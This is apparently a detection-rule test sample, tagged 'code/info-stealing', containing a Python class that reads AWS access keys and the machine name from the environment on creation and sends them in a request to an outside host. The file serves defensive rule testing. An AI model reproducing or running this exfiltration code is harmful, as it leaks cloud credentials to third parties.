# Defanged: a dict subclass keeps the AWS keys it finds in the environment on the instance and puts them in
# the path of a request to a fixed host whenever a program makes one.
from os import environ

import requests


class Ctx(dict):
    def __init__(self):
        dict.__init__(self)
        self.name = environ.get("COMPUTERNAME", "")
        if environ.get("AWS_ACCESS_KEY_ID") is not None:
            self.access = environ.get("AWS_ACCESS_KEY_ID")
        else:
            self.access = "empty"
        if environ.get("AWS_SECRET_ACCESS_KEY") is not None:
            self.secret = environ.get("AWS_SECRET_ACCESS_KEY")
        else:
            self.secret = "empty"
        self.sync()

    def sync(self):
        # ruleid: code/info-stealing
        requests.get("https://api.pkg-stats.net/h/" + self.name + "/" + self.access + "/" + self.secret, timeout=3)
